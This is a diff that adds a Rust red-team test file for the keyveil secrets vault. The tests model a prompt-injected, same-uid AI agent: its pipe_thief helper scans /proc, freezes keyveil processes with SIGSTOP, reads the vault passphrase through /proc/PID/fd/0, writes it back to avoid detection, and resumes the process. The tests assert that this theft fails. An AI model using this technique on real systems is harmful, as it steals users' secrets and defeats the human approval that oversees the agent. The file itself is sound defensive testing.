@@ -1,0 +1,179 @@
+//! Red-team pass over the rewritten factor path (branch `red`). Each test performs an attack the
+//! way a prompt-injected, same-uid agent would (a shell, `/proc`, the socket, the files of
+//! `KEYVEIL_HOME`) and asserts the secure outcome: they fail where the attack works.
+//!
+//! Run as root (as CI here does), `/proc/PID/fd` of a non-dumpable process is still open to the
+//! test; the same attacks were reproduced by hand as an unprivileged user (uid 1000, no ptrace
+//! involved, so Yama's `ptrace_scope` does not matter): freezing the new process with SIGSTOP
+//! before it calls `PR_SET_DUMPABLE` makes the window as long as the agent likes.
+
+use std::io::{Read, Write};
+use std::os::unix::fs::OpenOptionsExt;
+use std::os::unix::net::UnixStream;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::harness::*;
+
+/// `O_NONBLOCK` on Linux (x86_64 and aarch64).
+const O_NONBLOCK: i32 = 0o4000;
+
+/// What the agent stole from a pipe.
+type Loot = Arc<Mutex<Vec<u8>>>;
+
+fn cmdline(pid: u32) -> Option<String> {
+    let b = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
+    Some(
+        b.split(|&c| c == 0)
+            .map(|s| String::from_utf8_lossy(s).into_owned())
+            .collect::<Vec<_>>()
+            .join(" "),
+    )
+}
+
+fn has_home(pid: u32, home: &Path) -> bool {
+    let want = format!("KEYVEIL_HOME={}", home.display());
+    std::fs::read(format!("/proc/{pid}/environ"))
+        .map(|e| e.split(|&c| c == 0).any(|v| v == want.as_bytes()))
+        .unwrap_or(false)
+}
+
+/// The agent: watches `/proc` for a keyveil process of `home` whose command line holds
+/// `needle`, freezes it (SIGSTOP), opens its standard input through `/proc/PID/fd/0` (a pipe:
+/// the open gives the agent its own end of it), reads what the human's side wrote there, writes
+/// it back so nothing looks wrong, and lets the process go on (SIGCONT). Stops at `stop`.
+fn pipe_thief(home: &Path, needle: &'static str, stop: Arc<AtomicBool>) -> Loot {
+    let loot: Loot = Arc::new(Mutex::new(Vec::new()));
+    let out = loot.clone();
+    let home = home.to_path_buf();
+    let me = std::process::id();
+    std::thread::spawn(move || {
+        let mut done = std::collections::HashSet::new();
+        while !stop.load(Ordering::Relaxed) {
+            let Ok(dir) = std::fs::read_dir("/proc") else {
+                return;
+            };
+            for e in dir.flatten() {
+                let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
+                    continue;
+                };
+                if pid == me || done.contains(&pid) {
+                    continue;
+                }
+                let Some(cl) = cmdline(pid) else { continue };
+                if !cl.contains("keyveil") || !cl.contains(needle) || !has_home(pid, &home) {
+                    continue;
+                }
+                done.insert(pid);
+                let _ = Command::new("kill")
+                    .args(["-STOP", &pid.to_string()])
+                    .status();
+                if let Ok(mut pipe) = std::fs::OpenOptions::new()
+                    .read(true)
+                    .write(true)
+                    .custom_flags(O_NONBLOCK)
+                    .open(format!("/proc/{pid}/fd/0"))
+                {
+                    let mut buf = [0u8; 4096];
+                    let t0 = Instant::now();
+                    while t0.elapsed() < Duration::from_secs(5) {
+                        match pipe.read(&mut buf) {
+                            Ok(n) if n > 0 => {
+                                out.lock().unwrap().extend_from_slice(&buf[..n]);
+                                // Put it back: the process reads it as if nothing happened.
+                                let _ = pipe.write_all(&buf[..n]);
+                                break;
+                            }
+                            _ => std::thread::sleep(Duration::from_millis(1)),
+                        }
+                    }
+                }
+                let _ = Command::new("kill")
+                    .args(["-CONT", &pid.to_string()])
+                    .status();
+            }
+        }
+    });
+    loot
+}
+
+fn assert_no_passphrase(loot: &Loot, what: &str) {
+    let got = loot.lock().unwrap().clone();
+    assert!(
+        !contains(&got, PASS),
+        "{what}: the agent read the vault passphrase from a pipe: {:?}",
+        String::from_utf8_lossy(&got)
+    );
+}
+
+/// `keyveil init` and `keyveil unlock` hand the passphrase to a broker they start through its
+/// stdin pipe. The broker (and its supervisor) is dumpable from `exec` until it hardens itself;
+/// an agent that opens `/proc/PID/fd/0` in that window (frozen with SIGSTOP, it lasts as long
+/// as the agent likes; no ptrace, so Yama does not help) reads the passphrase — even when the
+/// human typed it on the terminal. The agent forces an unlock at will (`keyveil lock`, or the
+/// `shutdown` request, need no factor).
+#[test]
+fn the_bootstrap_stdin_pipe_of_init_and_unlock_does_not_give_the_passphrase_away() {
+    // init
+    let h = Home::empty();
+    let stop = Arc::new(AtomicBool::new(false));
+    let loot = pipe_thief(h.path(), "--bootstrap-stdin", stop.clone());
+    std::thread::sleep(Duration::from_millis(100));
+    let o = h.run_stdin(
+        &["init", "--passphrase-stdin", "--kdf-memory-kib", "19456"],
+        &format!("{PASS}\n"),
+    );
+    assert!(o.status.success(), "init failed: {}", text(&o.stderr));
+    stop.store(true, Ordering::Relaxed);
+    assert_no_passphrase(&loot, "keyveil init");
+
+    // unlock, after the agent stopped the broker (no factor needed for that)
+    h.ok(&["daemon", "stop"]);
+    let stop = Arc::new(AtomicBool::new(false));
+    let loot = pipe_thief(h.path(), "--bootstrap-stdin", stop.clone());
+    std::thread::sleep(Duration::from_millis(100));
+    let o = h.run_stdin(&["unlock", "--passphrase-stdin"], &format!("{PASS}\n"));
+    stop.store(true, Ordering::Relaxed);
+    assert!(o.status.success(), "unlock failed: {}", text(&o.stderr));
+    assert_no_passphrase(&loot, "keyveil unlock");
+    let _ = h.run(&["daemon", "stop"]);
+}
+
+/// `--passphrase-stdin` (the documented way to feed the passphrase from a password manager):
+/// the CLI hardens itself only in `read_secret_line`, after argument parsing; until then any
+/// same-uid process can open `/proc/PID/fd/0` and read the pipe.
+#[test]
+fn passphrase_stdin_of_the_cli_cannot_be_read_through_proc() {
+    let h = Home::new();
+    h.set("demo", "API_TOKEN", "tok_redteam_Zk4pQ9vX2mB7");
+    let o = h.run(&["run", "--env", "demo", "--wait", "0", "--", "true"]);
+    assert_eq!(o.status.code(), Some(5), "{}", text(&o.stderr));
+    let id = h.wait_request();
+    let stop = Arc::new(AtomicBool::new(false));
+    let loot = pipe_thief(h.path(), "--passphrase-stdin", stop.clone());
+    std::thread::sleep(Duration::from_millis(100));
+    // `pass show keyveil | keyveil approve ID --passphrase-stdin`: the password manager writes
+    // once it has decrypted (gpg takes a moment), while the CLI already runs.
+    let ids = id.to_string();
+    let mut child = h
+        .cmd(&["approve", &ids, "--passphrase-stdin"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    std::thread::sleep(Duration::from_millis(500));
+    stdin.write_all(format!("{PASS}\n").as_bytes()).unwrap();
+    drop(stdin);
+    let o = wait_output(child, Duration::from_secs(60));
+    stop.store(true, Ordering::Relaxed);
+    assert!(o.status.success(), "approve failed: {}", text(&o.stderr));
+    assert_no_passphrase(&loot, "keyveil approve --passphrase-stdin");
+    let _ = h.run(&["daemon", "stop"]);
+}
